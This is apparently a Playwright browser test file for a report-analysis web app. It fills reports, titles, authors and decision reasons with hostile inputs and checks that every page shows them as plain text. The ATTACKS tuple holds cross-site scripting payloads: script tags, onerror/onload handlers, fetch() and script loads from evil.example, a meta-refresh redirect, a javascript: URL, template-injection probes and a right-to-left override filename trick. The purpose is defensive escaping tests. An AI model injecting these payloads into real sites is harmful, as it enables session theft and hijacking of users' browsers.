"""Reports that attack who reads them: in every view their words are words. Any dialog, request or message fails."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import expect as has

from ascribe.case import Case
from ascribe.documents import from_text
from ascribe.model import Claim, ClaimAttribution, ClaimQuantity, Mention, Place, Reading, When, Where
from ascribe.web import names, naming
from ascribe.web.service import Service

from .browsing import Visit, served

pytestmark = pytest.mark.browser
ATTACKS = (
    "<img src=/alert onerror=alert(1)>",
    '"><script>alert(2)</script>',
    "' onmouseover='alert(3)' autofocus onfocus='alert(4)",
    "</textarea></title><script src=//evil.example/x.js></script>",
    "<svg/onload=fetch('//evil.example')>",
    "javascript:alert(5)",
    "{{ 7*7 }}{% raise %}${7*7}",
    "\u202etxt.exe\u2066 <a href=//evil.example>here</a>",
    "<style>@import '//evil.example'</style><meta http-equiv=refresh content='0;url=//evil.example'>",
)
MADE = """() => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))
    || e.matches('iframe, object, embed, base, main style, main img, main script, main meta')
    || e.matches('[src^="//"], [href^="//"], [href^="javascript"]')).map(e => e.outerHTML.slice(0, 120))"""
OURS = ("/static/", "/shared/", "/api/head")


def hostile(case: Case, number: int) -> None:
    """A report that has an attack wherever a report can have words."""
    attacks = [ATTACKS[(number + n) % len(ATTACKS)] for n in range(len(ATTACKS))]
    who, kind, whom, where, when, count, source, *_ = attacks
    text = f"{who} {kind} {whom} {count} {where} {when} {source}.\n\n" + "\n\n".join(attacks)
    document = from_text(
        text, title=attacks[7], outlet=attacks[8], published="2017-07-05", url="https://example.org/'onclick='alert(6)"
    )
    ends = [0]
    for words in (who, kind, whom, count, where, when, source):
        ends.append(text.index(words, ends[-1]) + len(words))

    def mention(n: int, words: str) -> Mention:
        return Mention(begin=ends[n + 1] - len(words), end=ends[n + 1], text=words, name=words, confidence=0.9)

    spot = mention(4, where)
    place = Place(begin=spot.begin, end=spot.end, text=where, name=where, latitude=35.95, longitude=39.01,
                  country="SY", gazetteer="test", gazetteer_id="1", precision="settlement", within=attacks[8],
                  confidence=0.9)  # fmt: skip
    told = mention(1, kind)
    claim = Claim(
        id=hashlib.blake2b(document.sha256.encode(), digest_size=8).hexdigest(), type="killing",
        trigger=(told.begin, told.end), sentence=(0, ends[-1]), agent=(mention(0, who),), target=(mention(2, whom),),
        place=(spot,), time=(mention(5, when),), factuality="asserted", factuality_confidence=0.9, confidence=0.4,
        quantities=(ClaimQuantity(begin=mention(3, count).begin, end=ends[4], text=count, low=number, best=number,
                                  high=number, unit=count, of="killed"),),
        attribution=ClaimAttribution(source=(mention(6, source),), form="direct", confidence=0.9),
        when=When(start="2017-07-05", end="2017-07-05", precision="day"),
        where=Where(latitude=35.95, longitude=39.01, precision="settlement"),
    )  # fmt: skip
    case.store(f"{attacks[0]}.txt", text.encode(), document, ATTACKS[1])
    case.store_reading(Reading(document=document, claims=(claim,), places=(place,), model="rules"), "ontology-1", "x")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A case of such reports, with decisions whose reasons attack, too."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.ascribe"
    with Case.create(str(path), title=ATTACKS[0], author=ATTACKS[2]) as case:
        for number in range(len(ATTACKS)):
            hostile(case, number)
        service = Service(case)
        first, second, *_ = service.claims().items
        service.decide("accept", {"claim": first.claim.id}, why=ATTACKS[1], author=ATTACKS[3])
        service.decide("reject", {"claim": second.claim.id}, why=ATTACKS[4], author=ATTACKS[0])
        (one, other, *_), (who, *_) = names.listed(case, "actor").items, second.claim.agent
        naming.merge(service, "actor", [one.key, other.key], ATTACKS[1], why=ATTACKS[0], author=ATTACKS[4])
        naming.say(service, second.claim.id, (who.begin, who.end), ATTACKS[2], author=ATTACKS[5])
        assert service.settle()
        service.close()
    return path


@pytest.fixture
def visit(browser: Browser, attacked: Path) -> Iterator[Visit]:
    with served(attacked, "--by", ATTACKS[5]) as address:
        made = Visit(browser, address)
        yield made
        made.close()


def views(path: Path) -> list[str]:
    with Case.open(str(path)) as case:
        service = Service(case)
        claims = [filed.claim.id for filed in service.claims().items]
        incidents = [one.statements[0].claim for one in service.incidents().items]
        sources = [quote(one.key, safe="") for one in service.sources().items]
        series = [one.id for one in service.series().items]
        known = [quote(one.key, safe="") for one in names.listed(case, "actor").items]
        service.close()
    attack = quote(ATTACKS[1])
    return [
        "/", f"/?place={attack}&actor={attack}", "/claims", f"/claims?source={attack}", f"/claims/{claims[0]}/amend",
        "/documents", *(f"/documents/{n}" for n in range(1, len(ATTACKS) + 1)), "/documents/1/missed?begin=0&end=40",
        *(f"/incidents/{id}" for id in incidents[:3]), f"/links?a={claims[0]}&b={claims[2]}", "/map",
        *(f"/series/{id}" for id in series[:1]), "/series", "/sources", *(f"/sources/{key}" for key in sources[:3]),
        "/names", f"/names?q={attack}&names={known[1]}", "/names?sort=place",
        *(f"/names/actor/{key}" for key in known[:4]), f"/names/merge?names={known[0]}&names={known[1]}",
        "/names/place/1", f"/claims/{claims[1]}/names", "/forecasts", "/decisions", "/add", "/failures", "/help",
    ]  # fmt: skip


def test_words_of_reports_are_words_in_every_view(visit: Visit, attacked: Path) -> None:
    asked = views(attacked)
    for path in asked:
        page = visit.at(path)
        page.locator("h1").first.wait_for()
        made = page.evaluate(MADE)
        assert made == [], path
        assert "\u202e" not in page.content(), path
        assert visit.trouble == [], path
    visit.at(f"/documents/{len(ATTACKS)}")
    for words in ATTACKS[:7]:
        has(visit.page.locator("#report")).to_contain_text(words)
    ours = {path.partition("?")[0] for path in asked}
    assert {quote(path, safe="/%") for path in visit.asked if not path.startswith(OURS)} <= ours


def test_dialogs_and_answers_in_the_page_show_words_too(visit: Visit) -> None:
    page = visit.at("/documents/1")
    card = page.locator("#claims [data-item]").first
    card.locator(".head").click()
    for piece in page.locator("#report [data-at]").all():
        piece.dispatch_event("pointerover")
    card.locator("[data-key=e]").click()
    form = page.get_by_role("dialog")
    form.locator("[name=why]").fill(ATTACKS[0])
    form.locator("[name=factuality]").select_option("denied")
    form.get_by_role("button", name="Amend").click()
    has(page.locator("#toast")).to_contain_text("Amended")
    has(form).to_have_count(0)
    _failing(page)


def _failing(page: Page) -> None:
    """A file that cannot be read, with an attack as its name, is told of by name and reason."""
    page.goto("/add")
    page.set_input_files("[type=file]", {"name": f"{ATTACKS[4]}.jsonl".replace("/", "-"), "mimeType": "text/plain",
                                         "buffer": ATTACKS[1].encode()})  # fmt: skip
    page.get_by_role("button", name="Add and read").click()
    has(page.locator("#jobs")).to_contain_text("<svg-onload=fetch(")
    has(page.locator("#jobs")).to_contain_text("1 failed")
    page.goto("/failures")
    has(page.locator("#main")).to_contain_text("<svg-onload=fetch(")


def test_a_visit_notices_what_must_not_happen(browser: Browser, attacked: Path) -> None:
    with served(attacked) as address:
        visit = Visit(browser, address)
        visit.at("/help").evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=//evil.example/x>')")
        visit.page.evaluate("alert(1)")
        with pytest.raises(AssertionError):
            visit.close()
    assert any(told.startswith("dialog") for told in visit.trouble)
    assert any("evil.example" in told for told in visit.trouble)
